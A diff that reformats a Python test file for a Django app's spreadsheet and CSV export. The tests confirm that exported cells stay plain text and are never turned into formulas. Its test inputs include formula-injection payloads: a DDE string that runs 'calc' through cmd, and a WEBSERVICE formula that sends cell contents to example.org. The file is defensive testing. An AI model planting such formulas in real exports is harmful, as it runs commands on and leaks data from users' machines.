@@ -16,9 +16,29 @@ from tests.downloads import as_xlsx, read_csv, read_sheet, read_xlsx
 from tests.factories import make_commitment, make_state, make_theme
 
 STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\t=", "＝", "＋", "－", "＠", "'=", "''=", '"=')
-ENDS = ("1+1", 'HYPERLINK("http://example.org","x")', "cmd|' /C calc'!A0", 'WEBSERVICE("http://example.org/"&A1)')
+ENDS = (
+    "1+1",
+    'HYPERLINK("http://example.org","x")',
+    "cmd|' /C calc'!A0",
+    'WEBSERVICE("http://example.org/"&A1)',
+)
 FORMULAS = [start + end for start in STARTS for end in ENDS]
-OTHERS = ["-5", "- five", "007", "1e5", "true", "متن فارسی", "نص عربي", "a\nb", "_x0041_", "\u202eevil", "x" * 32_767, " padded ", "1,5", "2026-01-01"]
+OTHERS = [
+    "-5",
+    "- five",
+    "007",
+    "1e5",
+    "true",
+    "متن فارسی",
+    "نص عربي",
+    "a\nb",
+    "_x0041_",
+    "\u202eevil",
+    "x" * 32_767,
+    " padded ",
+    "1,5",
+    "2026-01-01",
+]
 TEXTS = Table("texts", (Column("text", lambda row: row), Column("end", lambda _row: ".")))
 
 
@@ -29,7 +49,9 @@ def test_holds_every_text_as_it_is_and_none_as_a_formula():
 
     assert {cell.data_type for cell in cells} == {"s"}
     assert [cell.value for cell in cells] == FORMULAS + OTHERS
-    assert all(cell.quotePrefix for cell in cells if cell.value in FORMULAS and not cell.value.startswith('"'))
+    assert all(
+        cell.quotePrefix for cell in cells if cell.value in FORMULAS and not cell.value.startswith('"')
+    )
 
 
 def test_and_csv_give_the_same_texts_back():
@@ -40,15 +62,35 @@ def test_and_csv_give_the_same_texts_back():
 
 
 def test_types_what_is_no_text():
-    values = [date(2026, 3, 10), datetime(2026, 3, 10, 12, 30, 15, 250000, tzinfo=UTC), 7, Decimal("2.50"), True, None, ["a", "b"]]
-    sheet = read_sheet(as_xlsx(values, Table("values", (Column("value", lambda row: row), Column("end", lambda _row: ".")))))
+    values = [
+        date(2026, 3, 10),
+        datetime(2026, 3, 10, 12, 30, 15, 250000, tzinfo=UTC),
+        7,
+        Decimal("2.50"),
+        True,
+        None,
+        ["a", "b"],
+    ]
+    sheet = read_sheet(
+        as_xlsx(values, Table("values", (Column("value", lambda row: row), Column("end", lambda _row: "."))))
+    )
 
     cells = [row[0] for row in sheet.iter_rows(min_row=2)]
-    assert [cell.value for cell in cells] == [datetime(2026, 3, 10), datetime(2026, 3, 10, 12, 30, 15, 250000), 7, 2.5, True, None, "a,b"]  # noqa: DTZ001 (a sheet has no time zones)
+    assert [cell.value for cell in cells] == [
+        datetime(2026, 3, 10),
+        datetime(2026, 3, 10, 12, 30, 15, 250000),
+        7,
+        2.5,
+        True,
+        None,
+        "a,b",
+    ]  # noqa: DTZ001 (a sheet has no time zones)
     assert [cell.number_format for cell in cells[:2]] == ["yyyy-mm-dd", "yyyy-mm-dd hh:mm:ss.000"]
 
 
-@pytest.mark.parametrize("value", [Decimal("0.1234567890123456789"), 2**53 + 1, date(1850, 5, 1), datetime(1850, 5, 1, tzinfo=UTC)])
+@pytest.mark.parametrize(
+    "value", [Decimal("0.1234567890123456789"), 2**53 + 1, date(1850, 5, 1), datetime(1850, 5, 1, tzinfo=UTC)]
+)
 def test_holds_as_text_what_it_has_no_exact_type_for(value):
     (row,) = read_xlsx(as_xlsx([value], TEXTS))
 
@@ -106,7 +148,10 @@ def test_holds_exactly_the_filtered_rows(client):
     make_commitment()
     make_commitment(reference="BAG3-R1-IRN")
 
-    assert [row["reference"] for row in read_xlsx(client.get("/api/v1/commitments/", {"state": "IRN", "format": "xlsx"}))] == ["BAG3-R1-IRN"]
+    assert [
+        row["reference"]
+        for row in read_xlsx(client.get("/api/v1/commitments/", {"state": "IRN", "format": "xlsx"}))
+    ] == ["BAG3-R1-IRN"]
 
 
 @pytest.mark.django_db
